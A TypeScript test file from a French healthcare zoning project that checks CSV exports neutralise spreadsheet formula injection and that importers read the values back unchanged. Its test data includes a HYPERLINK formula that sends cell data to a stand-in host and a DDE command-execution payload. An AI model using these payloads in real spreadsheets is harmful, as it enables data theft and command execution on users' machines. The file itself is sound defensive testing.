// Every CSV the project writes neutralises spreadsheet formulae in text cells (OWASP: =, +, -, @, tab,
// CR at the start get a leading apostrophe); numbers stay numbers; the importers read the text back.
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { communeResolver, importMovements, importPharmacies, importPractitioners } from '../../src/core/import/index.ts';
import { movementsFile, pharmaciesFile, practitionersFile } from '../../src/core/import/normalized.ts';
import { zonageCsv } from '../../src/core/zonage/export.ts';
import { territoryCommunes } from '../../src/core/communes.ts';
import { loadTerritories } from '../../scripts/lib/inputs.ts';
import type { Movement } from '../../src/core/movements.ts';
import type { ZonageView } from '../../src/core/zonage/bundle.ts';
import { cog } from './cog.ts';

const communes = territoryCommunes(cog, loadTerritories().find((t) => t.id === 'charente-maritime')!);
const resolve = communeResolver(communes);
const enc = (s: string) => new TextEncoder().encode(s);
const HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1;"clic")', '+33 5 46 00 00 00', '-Dupont', '@SUM(A1:A2)', '=1+1', 'Zoé "la" Roy; fils'];

describe('formules neutralisées, relues telles quelles', () => {
  it.each(HOSTILE)('nom %j : écrit neutralisé, relu à l’identique (professionnels, pharmacies, mouvements)', (nom) => {
    const p = practitionersFile([{ commune: '17300', profession: 'medecin-generaliste', mode: 'liberal', start: '2020-01-01', end: null, rpps: '10000000001', nom }]);
    const cells = Papa.parse<string[]>(p.trim()).data[1];
    if (/^[=+\-@]/.test(nom)) expect(cells[6]).toBe(`'${nom}`);
    expect(importPractitioners('m.csv', enc(p), { resolve }).rows[0].nom).toBe(nom);
    const ph = pharmaciesFile([{ commune: '17300', finess: '170000001', nom, opened: null, closed: null }]);
    expect(importPharmacies('p.csv', enc(ph), { resolve }).rows[0].nom).toBe(nom);
    const mv: Movement = { type: 'installation', date: '2026-03-01', commune: '17300', profession: 'medecin-generaliste', mode: 'liberal', nom, cause: 'arrivee', source: 'declaration' };
    expect(importMovements('mv.csv', enc(movementsFile([mv])), { resolve }).rows[0].nom).toBe(nom);
  });

  it('export du tableau : texte neutralisé, nombres (même négatifs) laissés nombres', () => {
    const view = { scheme: { classes: [], label: 'Zonage', authority: 'ARS' }, zonage: { year: 2026, source: '=cmd|"/c calc"!A1', validUntil: '2026-12-31' }, date: '2026-06-01', example: false, status: { text: 'en vigueur', inForce: true } } as unknown as ZonageView;
    const csv = zonageCsv(view, [{ code: '17300', nom: '-La Rochelle', base: null, effective: null, reason: '@raison', gps: -3, pharmacies: 2 }]);
    const [header, row] = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '').trim(), { delimiter: ';' }).data;
    const cell = (k: string) => row[header.indexOf(k)];
    expect(cell('commune')).toBe("'-La Rochelle");
    expect(cell('raison')).toBe("'@raison");
    expect(cell('source')).toBe('\'=cmd|"/c calc"!A1');
    expect(cell('medecins_generalistes')).toBe('-3');
    expect(cell('pharmacies')).toBe('2');
  });
});
